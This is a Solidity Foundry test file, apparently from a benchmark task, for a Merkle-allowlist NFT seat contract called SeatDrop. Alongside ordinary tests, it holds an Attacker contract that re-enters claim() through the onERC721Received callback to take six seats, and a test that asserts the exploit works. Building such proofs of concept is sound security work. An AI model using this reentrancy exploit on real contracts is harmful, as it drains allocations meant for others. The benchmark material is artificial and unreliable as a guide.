// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./SeatDrop.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {IERC721Receiver} from "@openzeppelin/contracts@5.4.0/token/ERC721/IERC721Receiver.sol";

// assay-canary-357a8d82-dad8-437d-a393-4155f064546b

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant MANAGER = address(0x3A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    SeatDrop private drop;
    Attacker private mallory;
    bytes32[] private path;

    function setUp() public {
        drop = new SeatDrop(8, MANAGER);
        mallory = new Attacker(drop);
        vm.prank(MANAGER);
        drop.publish(node(node(leaf(ANA), leaf(BEN)), leaf(address(mallory))));
        path.push(node(leaf(ANA), leaf(BEN)));
    }

    function leaf(address who) private pure returns (bytes32) {
        return keccak256(bytes.concat(keccak256(abi.encode(who))));
    }

    function node(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return a < b ? keccak256(abi.encode(a, b)) : keccak256(abi.encode(b, a));
    }

    function pathOf(address other) private view returns (bytes32[] memory p) {
        p = new bytes32[](2);
        p[0] = leaf(other);
        p[1] = leaf(address(mallory));
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(drop.claim(pathOf(BEN)) == 0, "the first");
        vm.startPrank(BEN);
        uint256 seat = drop.claim(pathOf(ANA));
        drop.approve(ANA, seat);
        drop.setApprovalForAll(MANAGER, true);
        vm.stopPrank();
        vm.prank(ANA);
        drop.transferFrom(BEN, ANA, seat);
        require(drop.balanceOf(ANA) == 2 && drop.given() == 2 && drop.used(BEN), "two seats");
        vm.startPrank(ANA);
        drop.safeTransferFrom(ANA, BEN, 0);
        drop.safeTransferFrom(ANA, BEN, 1, "");
        vm.stopPrank();
        vm.prank(MANAGER);
        drop.release(0);
        vm.prank(BEN);
        drop.release(1);
        require(drop.balanceOf(BEN) == 0, "given back");
        bytes32 role = drop.MANAGER_ROLE();
        vm.startPrank(MANAGER);
        drop.grantRole(role, ANA);
        drop.revokeRole(role, ANA);
        drop.renounceRole(role, MANAGER);
        vm.stopPrank();
    }

    function test_Refuses() public {
        vm.expectRevert(bytes("SeatDrop: not invited"));
        drop.claim(pathOf(BEN));
        vm.startPrank(ANA);
        drop.claim(pathOf(BEN));
        vm.expectRevert(bytes("SeatDrop: used"));
        drop.claim(pathOf(BEN));
        vm.stopPrank();
        vm.expectRevert();
        drop.release(0);
        vm.prank(MANAGER);
        vm.expectRevert(bytes("SeatDrop: published"));
        drop.publish(bytes32(uint256(1)));
        vm.expectRevert(bytes("SeatDrop: zero"));
        new SeatDrop(0, MANAGER);
        vm.expectRevert(bytes("SeatDrop: zero"));
        new SeatDrop(1, address(0));
    }

    function test_RefusesStrangers() public {
        SeatDrop empty = new SeatDrop(1, MANAGER);
        bytes32 role = empty.MANAGER_ROLE();
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role));
        empty.publish(leaf(BEN));
    }

    function test_RefusesMoreThanThereAre() public {
        SeatDrop small = new SeatDrop(1, MANAGER);
        bytes32 both = node(leaf(ANA), leaf(BEN));
        vm.prank(MANAGER);
        small.publish(both);
        bytes32[] memory p = new bytes32[](1);
        p[0] = leaf(BEN);
        vm.prank(ANA);
        small.claim(p);
        p[0] = leaf(ANA);
        vm.prank(BEN);
        vm.expectRevert(bytes("SeatDrop: full"));
        small.claim(p);
    }

    function exploit() public {
        mallory.run(path);
    }

    function test_Exploit() public {
        exploit();
        require(drop.balanceOf(address(mallory)) == 6, "no more than one");
    }

    function target() public view returns (address) {
        return address(drop);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function oneEach() public view returns (bool) {
        address[3] memory all = [ANA, BEN, address(mallory)];
        uint256 n;
        for (uint256 i = 0; i < 3; i++) if (drop.used(all[i])) n++;
        return drop.given() == n;
    }
}

contract Attacker is IERC721Receiver {
    SeatDrop private drop;
    bytes32[] private path;

    constructor(SeatDrop d) {
        drop = d;
    }

    function run(bytes32[] calldata p) external {
        path = p;
        drop.claim(p);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (drop.balanceOf(address(this)) < 6) drop.claim(path);
        return IERC721Receiver.onERC721Received.selector;
    }
}
